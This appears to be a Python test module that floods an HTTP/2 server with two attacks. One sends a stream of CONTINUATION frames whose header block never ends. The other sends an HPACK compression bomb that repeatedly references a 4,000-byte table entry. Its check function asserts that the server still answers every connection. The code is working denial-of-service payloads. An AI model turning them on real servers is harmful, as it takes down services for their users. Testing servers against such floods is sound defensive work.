"""HTTP/2 heads that do not end, and one that is small and unpacks to a large one."""

from http2 import CONTINUATION, ENDS_HEADERS, ENDS_STREAM, HEADERS, fields, flood, frame
from raw import gather

EACH = 20
# A field that goes to the table, and how to name it again.
FILLER = b"\x40\x01x" + b"\x7f\x81\x1e" + b"y" * 4_000
AGAIN = b"\xbe"

WHAT = f"{EACH * 2} heads without end by HTTP/2"


def bomb(number):
    """Four thousand bytes for each one that is sent."""
    return frame(HEADERS, ENDS_STREAM | ENDS_HEADERS, 1 + 2 * number, fields() + FILLER + AGAIN * 12_000)


async def attack(target):
    literal = b"\x00\x01z\x01z"
    beginning = frame(HEADERS, ENDS_STREAM, 1, fields())
    piece = frame(CONTINUATION, 0, 1, literal * 2_000)
    return {
        "continued": await gather(flood(target, beginning, lambda _: piece) for _ in range(EACH)),
        "unpacked": await gather(flood(target, b"", bomb) for _ in range(EACH)),
    }


def check(case, outcome):
    for name, codes in outcome.items():
        case.assertEqual(sum(codes.values()), EACH, name)
        case.assertNotIn("None", codes, name)
